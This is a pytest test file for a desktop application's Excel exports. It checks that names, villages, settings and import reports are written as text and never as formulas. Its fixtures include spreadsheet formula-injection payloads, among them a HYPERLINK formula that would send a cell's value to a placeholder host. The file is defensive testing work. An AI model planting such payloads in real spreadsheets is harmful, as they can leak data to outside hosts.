"""No text typed by someone is ever written as a formula in a workbook the application writes
(issue 18, item 5): every writer's file is read back with openpyxl and as raw XML."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from da8desktop.core.excel.export import export_audit, export_groups_and_activities, export_people
from da8desktop.core.excel.import_people import ImportPreview, ImportRow, save_report
from da8desktop.core.excel.indicators import export_indicator_report
from da8desktop.core.indicators.periods import Period
from da8desktop.core.indicators.progress import compute_progress
from da8desktop.core.reports.print_settings import load_print_settings, save_print_settings
from da8desktop.core.services.audit_query import list_audit
from da8desktop.core.services.groups import GroupsService
from da8desktop.core.services.people import PeopleService
from da8desktop.core.services.villages import VillagesService

HOSTILE = ["=1+1", '=HYPERLINK("http://x.example/?"&A1,"Bấm vào")', "+84 912", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=2+2", "#N/A"]


def formulas(path: Path) -> list[str]:
    """Every <f> element of every sheet, straight from the XML."""
    with zipfile.ZipFile(path) as archive:
        return [m for name in archive.namelist() if name.startswith("xl/worksheets/")
                for m in re.findall(rb"<(?:\w+:)?f[ >/]", archive.read(name))]


def texts(path: Path) -> list[object]:
    workbook = openpyxl.load_workbook(path)
    values = [cell.value for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]
    kinds = {cell.data_type for ws in workbook.worksheets for row in ws.iter_rows()
             for cell in row if isinstance(cell.value, str)}
    assert kinds <= {"s"}, kinds  # text, never a formula ("f") or an error ("e")
    return values


@pytest.fixture
def hostile_db(demo_db):
    village = VillagesService(demo_db).create(name="=HYPERLINK(\"http://x\",\"thôn\")").id
    for n, name in enumerate(HOSTILE):
        PeopleService(demo_db).create(full_name=name, sex="F", birth_year=1980 + n,
                                      village_id=village, phone="+84 912 345 678" if n == 0 else None)
    GroupsService(demo_db).create(name="=1+1 tổ", type_key="group_type:TTCD")
    return demo_db


def test_people_export_writes_names_and_villages_as_text(hostile_db, tmp_path):
    path = tmp_path / "people.xlsx"
    export_people(hostile_db, path)
    assert formulas(path) == []
    values = texts(path)
    for name in HOSTILE:
        assert name.strip() in values  # the services trim the surrounding white space
    assert "+84 912 345 678" in values  # a real phone starting with "+" stays text
    assert "=HYPERLINK(\"http://x\",\"thôn\")" in values and "=1+1" in values


def test_groups_and_audit_exports_write_text(hostile_db, tmp_path):
    groups = tmp_path / "groups.xlsx"
    export_groups_and_activities(hostile_db, groups)
    assert formulas(groups) == [] and "=1+1 tổ" in texts(groups)
    audit = tmp_path / "audit.xlsx"
    export_audit(hostile_db, audit, list_audit(hostile_db, None, None, 500))
    assert formulas(audit) == []
    assert any(isinstance(v, str) and v.startswith("=") for v in texts(audit))


def test_indicator_workbook_writes_settings_text_as_text(demo_db, tmp_path):
    from dataclasses import replace

    save_print_settings(demo_db, replace(load_print_settings(demo_db), issuing_body="=1+1"))
    path = tmp_path / "report.xlsx"
    export_indicator_report(demo_db, compute_progress(demo_db, Period.choose(2026)), path)
    assert formulas(path) == []
    assert openpyxl.load_workbook(path).worksheets[0]["A1"].value == "=1+1"


def test_import_report_writes_refused_names_as_text(tmp_path):
    row = ImportRow(5, {"full_name": "=1+1"}, status="error", reasons=["@x"])
    path = save_report(ImportPreview(tmp_path / "in.xlsx", "S", ["S"], 1, {}, [row]),
                       tmp_path / "report.xlsx")
    assert formulas(path) == []
    assert openpyxl.load_workbook(path).active["C2"].value == "=1+1"


def test_control_characters_do_not_break_an_export(hostile_db, tmp_path):
    PeopleService(hostile_db).create(full_name="Lò Thị\x07 Hoa", sex="F", birth_year=1990)
    path = tmp_path / "people.xlsx"
    export_people(hostile_db, path)
    assert "Lò Thị Hoa" in texts(path)
